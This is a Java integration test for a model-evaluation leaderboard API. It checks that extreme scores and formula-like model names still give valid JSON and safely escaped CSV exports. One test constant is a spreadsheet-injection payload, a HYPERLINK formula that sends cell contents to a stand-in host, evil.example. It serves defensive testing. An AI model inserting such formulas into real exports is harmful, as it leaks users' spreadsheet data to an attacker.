package dev.evalboard.query;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.evalboard.devstack.testing.KafkaTestResource;
import dev.evalboard.devstack.testing.PostgresTestResource;
import io.quarkus.test.common.TestResourceScope;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * What a hostile publisher could store (scores near the largest double, as before the contract bounded them; names
 * that are spreadsheet formulas) must still give valid JSON, a CSV and no server error, for every visitor.
 */
@QuarkusTest
@WithTestResource(value = KafkaTestResource.class, scope = TestResourceScope.MATCHING_RESOURCES)
@WithTestResource(value = PostgresTestResource.class, scope = TestResourceScope.MATCHING_RESOURCES)
class HostileDataApiTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String P = Events.uniquePrefix();
    private static final String HUGE_A = P + "huge A";
    private static final String HUGE_B = P + "huge B";
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private static final String FORMULA_MODEL = FORMULA + P.strip();
    private static final String BENCH = P + "formula bench";

    @BeforeAll
    static void publish() {
        IngestPath.publish(List.of(
                Events.result(P + "big", HUGE_A, 1.7e308).raw().costUsd(1.7e308).parameters(1_000_000_000L).json(),
                Events.result(P + "big", HUGE_B, 1.7e308).raw().costUsd(1.7e308).parameters(1_000_000_000L).json(),
                Events.result(P + "small", HUGE_A, 1).raw().costUsd(1).parameters(2_000_000_000L).json(),
                Events.result(P + "small", HUGE_B, 2).raw().costUsd(1).parameters(2_000_000_000L).json(),
                Events.result(FORMULA_MODEL, BENCH, 50).json(),
                Events.result("@SUM(A1:A9)" + P, BENCH, 40).json(),
                Events.result("-1+2" + P, BENCH, 30).json()));
    }

    private static String table(String accept) {
        return given().urlEncodingEnabled(false).accept(accept).get("/api/v1/leaderboard?benchmark="
                + Urls.encode(HUGE_A) + "&benchmark=" + Urls.encode(HUGE_B)).then().statusCode(200).extract().asString();
    }

    @Test
    void theMeanOfTheLargestScoresIsAFiniteNumber() throws Exception {
        JsonNode rows = JSON.readTree(table("application/json")).get("rows");
        JsonNode top = rows.get(0);
        assertEquals(P + "big", top.get("model").asText());
        assertTrue(top.get("mean").isNumber(), top.toString());
        assertEquals(1.7e308, top.get("mean").doubleValue(), 1e293);
        assertEquals(1.5, rows.get(1).get("mean").doubleValue(), "an ordinary mean keeps its exact value");

        String csv = table("text/csv");
        assertTrue(csv.contains("\r\n1,1," + P + "big,170000000000000000"), csv);

        String pareto = given().urlEncodingEnabled(false).accept("application/json").get("/api/v1/pareto?benchmark="
                + Urls.encode(HUGE_A) + "&benchmark=" + Urls.encode(HUGE_B) + "&x=costUsd").then().statusCode(200)
                .extract().asString();
        JsonNode set = JSON.readTree(pareto);
        assertEquals(1, set.get("excluded").asLong(), "a cost sum beyond any double has no usable x: " + pareto);
        assertEquals(P + "small", set.get("frontier").get(0).get("model").asText());
        given().urlEncodingEnabled(false).accept("text/csv").get("/api/v1/pareto?benchmark=" + Urls.encode(HUGE_A)
                + "&benchmark=" + Urls.encode(HUGE_B)).then().statusCode(200);
    }

    @Test
    void csvCellsThatWouldRunAsFormulasAreShownAsText() {
        String csv = given().urlEncodingEnabled(false).accept("text/csv")
                .get("/api/v1/leaderboards/" + Urls.encode(BENCH)).then().statusCode(200).extract().asString();
        String[] lines = csv.split("\r\n");
        assertTrue(lines[1].startsWith("1,1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")"), lines[1]);
        assertTrue(lines[2].startsWith("2,2,'@SUM(A1:A9)"), lines[2]);
        assertTrue(lines[3].startsWith("3,3,'-1+2"), lines[3]);
        // The JSON keeps the name as it is: only the spreadsheet form needs the guard.
        given().urlEncodingEnabled(false).accept("application/json").get("/api/v1/leaderboards/" + Urls.encode(BENCH))
                .then().statusCode(200).body("entries[0].model", org.hamcrest.Matchers.equalTo(FORMULA_MODEL));
    }
}
